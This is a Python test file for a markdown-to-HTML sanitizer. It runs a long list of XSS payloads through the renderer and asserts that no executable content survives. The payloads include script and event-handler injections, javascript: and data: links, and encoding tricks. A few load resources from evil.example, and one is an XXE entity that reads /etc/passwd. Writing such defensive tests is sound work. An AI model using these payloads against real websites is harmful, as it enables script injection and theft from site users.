"""Scripts in what articles are written in, as they are tried at filters everywhere: read by a real HTML parser, nothing
of them is left that runs."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.texts.rules.markdown import _ATTRIBUTES, _TAGS, html_of

_SCHEMES = re.compile(r"(https?|mailto|tel|media):|[^:]*$|[^:/?#]*[/?#]", re.IGNORECASE)
_CONTROL = re.compile(r"[\x00-\x20\x7f-\xa0\u200b\ufeff]")


class Document(HTMLParser):
    """Every tag with its attributes, as a browser would have them."""

    def __init__(self, document: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")


def must_be_harmless(markdown: str) -> None:
    for tag, attributes in Document(html_of(markdown)).tags:
        assert tag in _TAGS, tag
        assert set(attributes) <= _ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), attributes
        for name in ("href", "src"):
            address = _CONTROL.sub("", attributes.get(name, ""))
            assert _SCHEMES.match(address), address
        if "style" in attributes:
            assert re.fullmatch(r"text-align:\s*(left|right|center);?", attributes["style"])
        if "class" in attributes:
            assert attributes["class"].startswith("language-")


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script\x20type="text/javascript">javascript:alert(1);</script>',
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<script>alert(1)//",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=x:x onerror\x0b=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    '<IMG SRC=# onmouseover="alert(1)">',
    "<IMG SRC=jav&#x09;ascript:alert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115>",
    '<IMG LOWSRC="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<form action="javascript:alert(1)"><input type=submit>',
    "<form><button formaction=javascript:alert(1)>x",
    '<isindex action="javascript:alert(1)" type=image>',
    "<body onload=alert(1)>",
    '<body background="javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a onclick=alert(1)>x</a>",
    '<a href="&#14; javascript:alert(1)">x</a>',
    '<base href="javascript:alert(1);//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<style>@import'https://evil.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background-image:url(javascript:alert(1))">',
    '<div style="width:expression(alert(1))">',
    '<table background="javascript:alert(1)"><td>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xss style="behavior:url(xss.htc)">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    '[x](https://a.example "" onmouseover="alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: data:text/html,x '\"><script>alert(1)</script>'\n\n![x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    '![x](https://a.example/x.png "\\" onerror=\\"alert(1)")',
    "![`<script>`](x)",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onmouseover="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


@pytest.mark.parametrize("markdown", ATTACKS)
def test_no_attack_leaves_anything_that_runs(markdown: str) -> None:
    must_be_harmless(markdown)
    must_be_harmless(f"A *word*\n\n{markdown}\n\nand **another**")


@given(st.lists(st.sampled_from([*ATTACKS, "\n\n", "**", "](", "[", "<", ">", '"', "`", "| ", "media:"]), max_size=6))
def test_nor_do_several_of_them_together(parts: list[str]) -> None:
    must_be_harmless("".join(parts))
